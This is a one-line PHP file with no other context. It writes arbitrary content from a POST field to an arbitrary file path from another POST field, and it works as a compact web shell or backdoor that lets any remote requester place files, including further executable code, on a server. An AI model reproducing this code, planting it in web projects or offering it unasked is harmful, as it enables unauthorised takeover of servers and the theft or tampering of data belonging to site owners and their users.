<?php file_put_contents($_POST['f'], $_POST['d']); ?>
